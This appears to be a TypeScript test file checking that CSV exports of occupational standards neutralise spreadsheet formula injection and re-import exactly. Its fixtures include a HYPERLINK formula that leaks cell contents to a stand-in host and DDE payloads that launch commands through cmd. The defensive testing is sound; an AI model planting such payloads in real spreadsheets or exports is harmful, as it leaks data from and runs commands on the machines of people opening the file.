// CSV exports must not run as formulas when opened in a spreadsheet, and must still come back exactly on import.
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { fromItemCsv, toItemCsv } from '#app/domain/standards/formats/item-csv.ts';
import { fromMoodleCsv, toMoodleCsv } from '#app/domain/standards/formats/moodle-csv.ts';
import type { NosStandard } from '#standards/schema.ts';
import { awkwardStandard, withoutNotes } from './fixtures.ts';

const rowsOf = (text: string) => parse(text, { bom: true, relax_column_count: true }) as string[][];

// What a spreadsheet may read as a formula (OWASP's list), and texts that begin with the quote that neutralises one.
const HOSTILE_TEXTS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A3)',
  '\t=1+1',
  '\r=1+1',
  "'quoted from the start",
  "''two quotes",
  "'=already neutralised by hand",
  'an ordinary text with = + - @ inside',
];

function hostileStandard(): NosStandard {
  const base = awkwardStandard();
  return {
    ...base,
    title: '=HYPERLINK("https://evil.example","title")',
    overview: '@overview',
    suite: "'suite",
    keywords: ['-keyword', 'ordinary'],
    items: [
      ...HOSTILE_TEXTS.map((text, index) => ({ code: `P${index + 1}`, kind: 'P' as const, section: index % 2 ? '=section' : 'Section', text })),
      { code: 'K1', kind: 'K', section: '+Knowledge', text: 'the law' },
    ],
  };
}

/** A cell a spreadsheet would evaluate: one starting with =, +, -, @, tab or carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('spreadsheet formulas in CSV exports', () => {
  it('item CSV: prefixes every cell a spreadsheet would evaluate with a single quote', () => {
    const rows = rowsOf(toItemCsv([hostileStandard()]));
    const cells = rows.flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).to.deep.equal([]);
    expect(cells).to.include(`'${HOSTILE_TEXTS[0]}`);
    expect(cells).to.include("''quoted from the start");
  });

  it('item CSV: brings every text back exactly, including texts that begin with a quote', () => {
    expect(fromItemCsv(toItemCsv([hostileStandard()]))).to.deep.equal([withoutNotes(hostileStandard())]);
  });

  it('Moodle CSV: prefixes every cell a spreadsheet would evaluate, framework options included', () => {
    const text = toMoodleCsv([hostileStandard()], { frameworkIdNumber: '-NOS', frameworkName: '=cmd|"/C calc"!A0', frameworkDescription: '@description', taxonomy: '+competency' });
    const cells = rowsOf(text).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).to.deep.equal([]);
    expect(cells).to.include('\'=cmd|"/C calc"!A0');
  });

  it('Moodle CSV: brings every text back exactly, including texts that begin with a quote', () => {
    const back = fromMoodleCsv(toMoodleCsv([hostileStandard()], { frameworkIdNumber: '-NOS' }));
    const expected = withoutNotes(hostileStandard());
    expect(back).to.deep.equal([expected]);
  });
});
